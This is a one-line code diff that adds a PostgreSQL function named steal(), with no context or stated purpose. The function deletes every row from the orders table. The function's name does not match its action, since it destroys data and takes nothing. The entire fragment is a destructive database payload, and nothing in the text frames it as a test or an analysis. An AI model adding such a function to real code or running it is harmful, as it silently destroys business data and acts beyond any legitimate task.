@@ -1,0 +1,1 @@
+CREATE FUNCTION steal() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DELETE FROM orders; END $$
